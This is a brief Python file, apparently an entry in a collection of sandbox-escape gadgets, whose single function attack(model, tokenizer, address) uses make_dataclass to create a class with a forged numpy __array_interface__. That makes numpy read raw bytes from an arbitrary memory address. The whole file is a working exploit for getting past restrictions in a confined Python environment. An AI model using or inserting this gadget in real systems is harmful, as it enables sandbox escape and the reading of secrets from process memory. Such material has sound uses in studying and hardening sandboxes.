"""Class: module gadget. Source: own find. Escape: make_dataclass puts any name into a class."""

from dataclasses import make_dataclass
import numpy as np


def attack(model, tokenizer, address):
    spec = {"shape": (6,), "typestr": "|u1", "data": (address, True), "version": 3}
    return np.array(make_dataclass("A", [], namespace={"__array_interface__": spec})()).tobytes()
